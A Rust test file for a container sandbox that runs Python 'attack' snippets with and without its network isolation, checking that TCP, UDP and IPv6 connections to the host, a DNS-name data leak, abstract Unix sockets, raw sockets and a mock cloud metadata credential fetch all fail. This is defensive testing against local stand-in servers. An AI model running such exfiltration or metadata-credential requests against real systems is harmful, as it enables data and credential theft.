//! Nothing is reached, neither far away nor on this machine.

use std::io::Write;
use std::net::{TcpListener, UdpSocket};
use std::time::Duration;

use cellblock::config::Network;

use super::{attempt, bare, twice, twice_as_root};
use crate::containers::{Bench, Ran, docker, eventually, image, said};

/// Where containers on the bridge find this machine: their default route.
async fn gateway() -> String {
    let ask = "
import socket, struct
routes = [line.split() for line in open('/proc/net/route')][1:]
print(next(socket.inet_ntoa(struct.pack('<I', int(r[2], 16))) for r in routes if r[1] == '00000000'))";
    Bench::new().python(ask, |p| p.spec.network = Network::Bridge).await.out
}

#[tokio::test(flavor = "multi_thread")]
async fn tcp_reaches_nothing() {
    let listener = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || listener.accept().unwrap().0.write_all(b"secret").unwrap());
    let attack = attempt(&format!(
        "print(socket.create_connection(('{}', {port}), 20).recv(6).decode(), end=' ')",
        gateway().await
    ));
    let (with, without) = twice(&Bench::new(), &attack, |p| p.spec.network = Network::Bridge).await;
    assert_eq!((with.out.as_str(), without.out.as_str()), ("ENETUNREACH", "secret done"), "{without:?}");
    server.join().unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn udp_reaches_nothing_and_so_nothing_leaks_through_names() {
    // A resolver of our own on the host, as a name server that an attacker runs would be.
    let resolver = UdpSocket::bind("0.0.0.0:0").unwrap();
    resolver.set_read_timeout(Some(Duration::from_mins(1))).unwrap();
    let port = resolver.local_addr().unwrap().port();
    let attack = attempt(&format!(
        "query = bytes.fromhex('1234010000010000000000000673656372657407') + b'example\\0' + bytes.fromhex('00010001')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(query, ('{}', {port}))",
        gateway().await
    ));
    let (with, without) = twice(&Bench::new(), &attack, |p| p.spec.network = Network::Bridge).await;
    assert_eq!((with.out.as_str(), without.out.as_str()), ("ENETUNREACH", "done"));
    let mut packet = [0; 512];
    let (length, _) = resolver.recv_from(&mut packet).unwrap();
    assert!(
        packet[..length].windows(6).any(|w| w == b"secret"),
        "the one packet is the one without the defence"
    );
    resolver.set_nonblocking(true).unwrap();
    assert!(resolver.recv_from(&mut packet).is_err());
    let names = attempt("socket.getaddrinfo('example.org', 80)");
    assert_ne!(Bench::new().python(&names, |_| ()).await.out, "done");
}

#[tokio::test(flavor = "multi_thread")]
async fn there_is_no_interface_but_loopback() {
    let attack = "import os; print(*sorted(os.listdir('/sys/class/net')))";
    let (with, without) = twice(&Bench::new(), attack, |p| p.spec.network = Network::Bridge).await;
    let outside = |ran: &Ran| ran.out.split(' ').any(|name| name.starts_with("eth"));
    assert!(!outside(&with) && outside(&without), "{with:?} {without:?}");
}

/// A listener of this machine on its loopback address, which answers each connection with `secret`.
fn secretive(address: &str) -> std::io::Result<u16> {
    let listener = TcpListener::bind(address)?;
    let port = listener.local_addr()?.port();
    std::thread::spawn(move || {
        while let Ok((mut client, _)) = listener.accept() {
            let _ = client.write_all(b"secret");
        }
    });
    Ok(port)
}

#[tokio::test(flavor = "multi_thread")]
async fn the_machines_own_loopback_is_another_one() {
    let port = secretive("127.0.0.1:0").unwrap();
    let attack = attempt(&format!(
        "print(socket.create_connection(('127.0.0.1', {port}), 20).recv(6).decode(), end=' ')"
    ));
    let with = Bench::new().python(&attack, |_| ()).await;
    assert_eq!(
        (with.out.as_str(), bare(&["--network=host"], &attack).as_str()),
        ("ECONNREFUSED", "secret done")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn version_six_reaches_nothing_either() {
    let far = attempt("socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).connect(('2001:db8::1', 53))");
    let far = Bench::new().python(&far, |_| ()).await.out;
    assert!(
        ["ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL", "EAFNOSUPPORT"].contains(&far.as_str()),
        "{far}"
    );
    let attack = |port: u16| {
        attempt(&format!("print(socket.create_connection(('::1', {port}), 20).recv(6).decode(), end=' ')"))
    };
    // A machine without version six has nothing that could be reached, with or without a network.
    let (port, reached) = match secretive("[::1]:0") {
        Ok(port) => (port, "secret done"),
        Err(error) => {
            assert_eq!(error.kind(), std::io::ErrorKind::AddrNotAvailable, "{error}");
            (9, "EADDRNOTAVAIL")
        }
    };
    let with = Bench::new().python(&attack(port), |_| ()).await.out;
    assert!(["ECONNREFUSED", "EADDRNOTAVAIL"].contains(&with.as_str()), "{with}");
    assert_eq!(bare(&["--network=host"], &attack(port)), reached);
}

#[tokio::test(flavor = "multi_thread")]
async fn abstract_sockets_of_the_machine_are_not_there() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener};
    let name = format!("cellblock-test-{}", uuid::Uuid::new_v4().simple());
    let address = SocketAddr::from_abstract_name(&name).unwrap();
    let listener = UnixListener::bind_addr(&address).unwrap();
    let server = std::thread::spawn(move || listener.accept().unwrap().0.write_all(b"secret").unwrap());
    // As containerd's were once (CVE-2020-15257).
    let attack = attempt(&format!(
        "s = socket.socket(socket.AF_UNIX)
s.connect('\\0{name}')
print(s.recv(6).decode(), end=' ')"
    ));
    let with = Bench::new().python(&attack, |_| ()).await;
    assert_eq!(
        (with.out.as_str(), bare(&["--network=host"], &attack).as_str()),
        ("ECONNREFUSED", "secret done")
    );
    server.join().unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn no_raw_sockets_are_given() {
    for kind in ["socket.AF_INET, socket.SOCK_RAW, 1", "17, socket.SOCK_RAW, 0x300"] {
        let attack = attempt(&format!("socket.socket({kind})"));
        let (with, without) =
            twice_as_root(&Bench::new(), &attack, |p| p.spec.drop_capabilities = false).await;
        assert_eq!((with.out.as_str(), without.out.as_str()), ("EPERM", "done"), "{kind}");
    }
}

/// A cloud's metadata service as an attacker finds it: at its usual address, in a network of its own.
struct Metadata(String);

impl Metadata {
    const SERVICE: &str = "
import fcntl, http.server, socket, struct
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    name = b'lo:1'.ljust(16, b'\\0')
    fcntl.ioctl(s, 0x8916, name + struct.pack('HH4s8x', socket.AF_INET, 0, socket.inet_aton('169.254.169.254')))
class Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b'role-credentials')
server = http.server.HTTPServer(('169.254.169.254', 80), Answer)
print('ready', flush=True)
server.serve_forever()";

    fn start() -> Self {
        let id = said(&[
            "run",
            "-d",
            "--network=none",
            "--cap-add=NET_ADMIN",
            "--user=0:0",
            "--entrypoint=python3",
            &image(),
            "-uc",
            Self::SERVICE,
        ]);
        Metadata(id)
    }
}

impl Drop for Metadata {
    fn drop(&mut self) {
        docker(&["rm", "-f", &self.0]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_clouds_metadata_is_out_of_reach() {
    let service = Metadata::start();
    eventually("the service is up", || said(&["logs", &service.0]).contains("ready")).await;
    let attack = "
import urllib.request
try: print(urllib.request.urlopen('http://169.254.169.254/latest/meta-data/', timeout=20).read().decode())
except OSError as e: print('unreachable' if 'unreachable' in str(e) or 'No route' in str(e) else e)";
    let with = Bench::new().python(attack, |_| ()).await;
    let network = format!("--network=container:{}", service.0);
    assert_eq!((with.out.as_str(), bare(&[&network], attack).as_str()), ("unreachable", "role-credentials"));
}
